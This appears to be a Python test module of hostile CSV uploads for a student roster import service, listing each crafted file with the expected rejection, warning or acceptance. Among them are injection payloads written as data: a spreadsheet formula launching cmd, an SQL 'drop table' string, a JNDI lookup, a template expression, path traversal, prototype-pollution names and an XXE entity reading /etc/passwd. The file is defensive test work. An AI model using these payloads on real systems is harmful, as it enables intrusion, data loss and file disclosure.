"""CSV files made to harm, each with exactly what the service answers to it: encodings, signs, sizes, look-alikes."""

import codecs

from tests.roster.faulty_uploads import (
    ENROLLMENTS,
    GRADED,
    PLAIN,
    SECTIONS,
    STUDENTS,
    TERMED,
    FaultyUpload,
    in_sync,
    rejected,
    unreadable,
    warned,
)
from tests.roster.sentences import ENDLESS_CELL, LONG_IDENTIFIER, NUL_IN_HEADER, NUL_IN_ROW, miscounted

FILE = "students.csv"
HEADER, ROWS = STUDENTS.split(b"\n", 1)
TEXT = STUDENTS.decode()
MANY = 100_000
CYRILLIC_S = "\u0405"
"""Looks like an S."""
CYRILLIC_A = "\u0430"
"""Looks like an a."""


def said(upload: FaultyUpload, message: str) -> FaultyUpload:
    """An upload whose problems say this."""
    values = {name: getattr(upload, name) for name in ("name", "files", "problems", "outcome", "stage")}
    return FaultyUpload(**values, said=message)


def taken(name: str, data: bytes, *, file: str = FILE) -> FaultyUpload:
    """A file that looks harmful, is not, and is taken as it is."""
    return FaultyUpload(name=name, files={file: data}, problems=(), outcome="published")


def undecodable(name: str, data: bytes, line: int) -> FaultyUpload:
    """A file of another encoding than UTF-8, with the line where that shows first."""
    return unreadable(name, FILE, data, "not_utf8", (line, None))


def headless(name: str, data: bytes) -> FaultyUpload:
    """A file without a line of column names."""
    return unreadable(name, FILE, data, "no_header", (1, None))


def without(name: str, header: str, *columns: str) -> FaultyUpload:
    """A file whose header only seems to name these columns."""
    return unreadable(
        name, FILE, header.encode() + b"\n" + ROWS, "missing_column", *((1, column) for column in columns)
    )


def row(name: str, cells: str, code: str, column: str | None) -> FaultyUpload:
    """A further row that is rejected."""
    return rejected(name, FILE, STUDENTS + cells.encode() + b"\n", code, (4, column))


ENCODINGS = (
    undecodable("UTF-16, little end first", codecs.BOM_UTF16_LE + TEXT.encode("utf-16-le"), 1),
    undecodable("UTF-16, big end first", codecs.BOM_UTF16_BE + TEXT.encode("utf-16-be"), 1),
    headless("UTF-16 without a mark, little end first", TEXT.encode("utf-16-le")),
    headless("UTF-16 without a mark, big end first", TEXT.encode("utf-16-be")),
    undecodable("UTF-32, little end first", codecs.BOM_UTF32_LE + TEXT.encode("utf-32-le"), 1),
    undecodable("UTF-32, big end first", codecs.BOM_UTF32_BE + TEXT.encode("utf-32-be"), 1),
    without("UTF-7", "+/v8-" + HEADER.decode(), "School_id"),
    undecodable("EBCDIC", TEXT.encode("cp037"), 1),
    undecodable("GB 18030", STUDENTS + "10,s3,李,B,3\n".encode("gb18030"), 4),
    undecodable("Shift JIS", STUDENTS + "10,s3,日本,B,3\n".encode("shift-jis"), 4),
    undecodable("Windows-1252", STUDENTS + "10,s3,O’Neil,B,3\n".encode("cp1252"), 4),
    undecodable("Latin-1 in the header", "Sch\u00f6ol_id,".encode("latin-1") + STUDENTS, 1),
    undecodable("slash in two bytes", STUDENTS + b"10,s3,\xc0\xaf,B,3\n", 4),
    undecodable("NUL in two bytes", STUDENTS + b"10,s3,\xc0\x80,B,3\n", 4),
    undecodable("letter in six bytes", STUDENTS + b"10,s3,\xfc\x80\x80\x80\x81\x81,B,3\n", 4),
    undecodable("sign beyond the last one", STUDENTS + b"10,s3,\xf4\x90\x80\x80,B,3\n", 4),
    undecodable("pair of surrogates", STUDENTS + b"10,s3,\xed\xa0\xbd\xed\xb8\x80,B,3\n", 4),
    undecodable("byte that goes on from none", STUDENTS + b"10,s3,\x80,B,3\n", 4),
    undecodable("sign that ends with the file", STUDENTS + b"10,s3,A,B,\xe2\x82", 4),
    undecodable("sign that ends with the line", STUDENTS + b"10,s3,A,B,\xe2\x82\n10,s4,A,B,3\n", 4),
    undecodable("picture", b"\x89PNG\r\n\x1a\n" + bytes(100), 1),
    headless("program", b"\x7fELF\x02\x01\x01" + bytes(100)),
    said(unreadable("tar", FILE, b"students.csv".ljust(100, b"\0") + STUDENTS, "nul_character"), NUL_IN_HEADER),
    headless("document", b"%PDF-1.7\nZebedee\n"),
    without("two byte order marks", "\ufeff\ufeff" + HEADER.decode(), "School_id"),
    taken("byte order mark", codecs.BOM_UTF8 + STUDENTS),
    FaultyUpload(
        name="byte order mark before a row",
        files={FILE: HEADER + b"\n" + codecs.BOM_UTF8 + ROWS},
        problems=(
            ("error", FILE, 2, "School_id", "unknown_school"),
            ("error", "enrollments.csv", 2, "Student_id", "unknown_student"),
        ),
        outcome="published",
        stage="sync",
    ),
)

SIGNS = (
    headless("nothing but NUL", bytes(1000)),
    said(unreadable("NUL before the header", FILE, b"\0," + STUDENTS, "nul_character"), NUL_IN_HEADER),
    said(row("NUL for a key", "10,\0,A,B,3", "nul_character", None), NUL_IN_ROW),
    said(row("NUL that hides the end of a key", "10,s1\0Zebedee,A,B,3", "nul_character", None), NUL_IN_ROW),
    said(row("NUL at the end of a row", "10,s3,A,B,3\0", "nul_character", None), NUL_IN_ROW),
    said(
        rejected("NUL in an enrollment", "enrollments.csv", ENROLLMENTS + b"10,c1,s2\0\n", "nul_character", (3, None)),
        NUL_IN_ROW,
    ),
    FaultyUpload(
        name="lone CR in a cell",
        files={FILE: STUDENTS + b"10,s3,Zebe\rdee,B,3\n"},
        problems=(("error", FILE, 4, None, "wrong_column_count"), ("error", FILE, 5, None, "wrong_column_count")),
        outcome="published",
        said=miscounted(3, 5),
    ),
    taken("lone CR after each row", STUDENTS.replace(b"\n", b"\r")),
    taken("three sorts of line ends", HEADER + b"\r" + ROWS.replace(b"\n", b"\r\n", 1)),
    taken("line ends the wrong way round", STUDENTS.replace(b"\n", b"\n\r")),
    taken("line ends of other scripts", STUDENTS + "10,s3,A\u2028B\u2029C\u0085D\vE\fF,G,3\n".encode()),
    taken("end of a file of MS-DOS in a cell", STUDENTS + b"10,s3,Zebe\x1adee,B,3\n"),
    taken("escape sequences of a terminal", STUDENTS + b"10,s3,\x1b[2J\x1b]0;x\x07,B,3\n"),
    taken("marks from right to left", STUDENTS + "10,s3,\u202eeedebeZ\u202c,\u2067B\u2069,3\n".encode()),
    taken("formulas", STUDENTS + b"10,s3,=cmd|'/C calc'!A0,\"@SUM(1,1)\",3\n10,s4,+1+1,-2+3,3\n"),
    taken(
        "commands of a database", STUDENTS + b"10,'); drop table students;--,A,B,3\n10,s3,${jndi:ldap://x},{{7*7}},3\n"
    ),
    taken("signs of COPY", STUDENTS + b"10,\\.,\\N,B,3\n10,\\N,A\\tB,\\\\,3\n10,null,NaN,x,3\n"),
    taken("folders for ids", STUDENTS + b"10,../../s1,A,B,3\n10,%2e%2e%2fs1,A,B,3\n10,.,A,B,3\n"),
    taken(
        "as many signs of four bytes as an id may have", STUDENTS + "10,{},A,B,3\n".format("\U0001f600" * 200).encode()
    ),
)

SHAPES = (
    unreadable("100,000 columns", FILE, PLAIN + b",x" * MANY + b"\n", "too_many_columns"),
    unreadable("100,000 empty columns", FILE, PLAIN + b"," * MANY + b"\n", "too_many_columns"),
    unreadable("100,000 columns of one name", FILE, PLAIN + b",Grade" * MANY + b"\n", "too_many_columns"),
    said(row("row of 100,000 cells", "10,s3" + ",Zebedee" * MANY, "wrong_column_count", None), miscounted(MANY + 2, 5)),
    said(row("row of 100,000 commas", "," * MANY, "wrong_column_count", None), miscounted(MANY + 1, 5)),
    said(
        row("cell that is quoted and endless", f'10,s3,"{"Zebedee" * 20_000}",B,3', "cell_too_long", None), ENDLESS_CELL
    ),
    said(
        row(
            "identifier of 201 signs of four bytes",
            "10,{},A,B,3".format("\U0001f600" * 201),
            "cell_too_long",
            "Student_id",
        ),
        LONG_IDENTIFIER,
    ),
    unreadable("line of 5 MB of quotes", FILE, STUDENTS + b'""' * (5 << 19) + b'"', "record_too_long", (4, None)),
    unreadable("line of 5 MB of commas", FILE, STUDENTS + b"," * (5 << 20), "record_too_long", (4, None)),
    unreadable("header of 5 MB", FILE, b"x" * (5 << 20) + b"\n" + ROWS, "record_too_long", (1, None)),
    unreadable("quote open in the header", FILE, b'"' + STUDENTS, "unclosed_quote", (1, None)),
    unreadable("quote open in the last cell", FILE, STUDENTS + b'10,s3,A,B,"3', "unclosed_quote", (4, None)),
    unreadable("quote open before the last line end", FILE, STUDENTS + b'10,s3,A,B,"3\n', "unclosed_quote", (4, None)),
    rejected("quote escaped by a backslash", FILE, STUDENTS + b'10,s3,"Ze\\"bedee",B,3\n', "bad_quotes", (4, None)),
    rejected("quotes within quotes", FILE, STUDENTS + b'10,s3,"A "Zebedee" B",B,3\n', "bad_quotes", (4, None)),
    said(row("quotes of a word processor", "10,s3,“Zebedee, Ann”,B,3", "wrong_column_count", None), miscounted(6, 5)),
    said(row("quotes of a programmer", "10,s3,'Zebedee, Ann',B,3", "wrong_column_count", None), miscounted(6, 5)),
    headless("semicolons", STUDENTS.replace(b",", b";")),
    headless("tabs", STUDENTS.replace(b",", b"\t")),
    headless("separator as spreadsheets name it", b"sep=,\n" + STUDENTS),
    headless("page of HTML", b"<!doctype html>\n<title>Zebedee</title>\n"),
    headless("JSON", b'[{"School_id": "10", "Student_id": "Zebedee"}]\n'),
    headless("XML", b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>\n'),
    headless("rows without a header", ROWS.replace(b"Ann", b"Zebedee")),
    FaultyUpload(
        name="row that looks like a header",
        files={FILE: b"10,Zebedee,Zebedee,SSN Zebedee,Grade\n" + ROWS},
        problems=tuple(
            ("error", FILE, 1, column, "missing_column")
            for column in ("School_id", "Student_id", "Last_name", "First_name")
        ),
        outcome="failed",
    ),
)

LOOK_ALIKES = (
    without("header with a Cyrillic letter", HEADER.decode().replace("School", CYRILLIC_S + "chool"), "School_id"),
    without(
        "header with a sign without width", HEADER.decode().replace("Student_id", "Student\u200b_id"), "Student_id"
    ),
    without("header from right to left", HEADER.decode().replace("Last_name", "\u202eLast_name"), "Last_name"),
    without("header of wide letters", HEADER.decode().replace("School_id", "Ｓｃｈｏｏｌ＿ｉｄ"), "School_id"),
    without("header as a formula", "=" + HEADER.decode(), "School_id"),
    taken("header with a space that does not break", STUDENTS.replace(b"School_id", "School_id\u00a0".encode())),
    unreadable(
        "column twice but for its blanks",
        FILE,
        PLAIN + b",Grade, Grade\n10,s1,A,B,3,4\n",
        "duplicate_column",
        (1, "Grade"),
    ),
    unreadable("key twice", FILE, PLAIN + b",student_ID\n10,s1,A,B,s2\n", "duplicate_column", (1, "student_ID")),
    unreadable(
        "column of contacts twice",
        FILE,
        PLAIN + b",Contact_name,contact_name\n10,s1,A,B,C,D\n",
        "duplicate_column",
        (1, "contact_name"),
    ),
    warned(
        "column of a Cyrillic SSN",
        FILE,
        PLAIN + f",{CYRILLIC_S}{CYRILLIC_S}N\n10,s1,A,B,Zebedee\n".encode(),
        "unknown_column",
        (1, f"{CYRILLIC_S}{CYRILLIC_S}N"),
    ),
    warned(
        "column named as a command",
        FILE,
        PLAIN + b",'); drop table students;--\n10,s1,A,B,Zebedee\n",
        "unknown_column",
        (1, "'); drop table students;--"),
    ),
    warned(
        "column that is kept without a name", FILE, PLAIN + b",ext.\n10,s1,A,B,Zebedee\n", "unknown_column", (1, "ext.")
    ),
    warned(
        "column that is kept with a long name",
        FILE,
        PLAIN + b",ext." + b"x" * 97 + b"\n10,s1,A,B,Zebedee\n",
        "long_column_name",
        (1, "ext." + "x" * 56),
    ),
    taken(
        "column that is kept as an attribute of JavaScript", PLAIN + b",ext.__proto__,ext.constructor\n10,s1,A,B,x,y\n"
    ),
    warned("grade in Arabic digits", FILE, STUDENTS + "10,s3,A,B,٣\n".encode(), "unknown_grade", (4, "Grade")),
    warned("grade without width", FILE, STUDENTS + "10,s3,A,B,3\u200b\n".encode(), "unknown_grade", (4, "Grade")),
    warned(
        "grade of a thousand digits",
        FILE,
        STUDENTS + b"10,s3,A,B," + b"9" * 1000 + b"\n",
        "unknown_grade",
        (4, "Grade"),
    ),
    warned("gender in Cyrillic", FILE, GRADED + "10,s1,A,B,М,,,\n".encode(), "unknown_gender", (2, "Gender")),
    warned("race in Cyrillic", FILE, GRADED + "10,s1,A,B,,А,,\n".encode(), "unknown_race", (2, "Race")),
    warned(
        "yes from right to left", FILE, GRADED + "10,s1,A,B,,,,\u202eY\n".encode(), "unknown_yes_no", (2, "Ell_status")
    ),
    warned(
        "subject with a Cyrillic letter",
        "sections.csv",
        TERMED + f"10,c1,t1,m{CYRILLIC_A}th,3,,\n".encode(),
        "unknown_subject",
        (2, "Subject"),
    ),
    *(
        warned(f"birth date {name}", FILE, GRADED + f"10,s1,A,B,,,{date},\n".encode(), "impossible_date", (2, "DOB"))
        for name, date in (
            ("in the year 0", "0000-01-01"),
            ("in wide digits", "２０１２-０１-０１"),
            ("in the year 99999", "1/1/99999"),
            ("on a day that is not", "2/29/2023"),
            ("of digits only", "9" * 400),
            ("from a serial number", "41275"),
        )
    ),
    row("key of a space that does not break", "10,\u00a0\u2003,A,B,3", "missing_key", "Student_id"),
    *(
        in_sync(
            f"enrollment of {name}",
            "enrollments.csv",
            ENROLLMENTS + f"10,c1,{key}\n".encode(),
            ("error", 3, "Student_id", "unknown_student"),
        )
        for name, key in (
            ("a student with a Cyrillic letter", "\u0455" + "1"),
            ("a student with a sign without width", "s\u200b1"),
            ("a student in wide letters", "ｓ１"),
            ("a student in capitals", "S1"),
            ("a student from right to left", "\u202es1"),
            ("a student with a byte order mark", "\ufeffs1"),
            ("everybody", "%"),
            ("anybody", "s_"),
            ("a formula", '="s1"'),
        )
    ),
    in_sync(
        "student at a school in wide digits",
        FILE,
        STUDENTS + "１０,s3,Zebedee,B,3\n".encode(),
        ("error", 4, "School_id", "unknown_school"),
    ),
    in_sync(
        "student at a school with a zero before",
        FILE,
        STUDENTS + b"010,s3,Zebedee,B,3\n",
        ("error", 4, "School_id", "unknown_school"),
    ),
    in_sync(
        "student at a school with a point",
        FILE,
        STUDENTS + b"10.0,s3,Zebedee,B,3\n",
        ("error", 4, "School_id", "unknown_school"),
    ),
    in_sync(
        "section taught by a teacher with a Cyrillic letter",
        "sections.csv",
        SECTIONS + "10,c2,\u04421,Art\n".encode(),
        ("warning", 3, "Teacher_id", "unknown_teacher"),
    ),
)

HOSTILE_TEXTS = (*ENCODINGS, *SIGNS, *SHAPES, *LOOK_ALIKES)
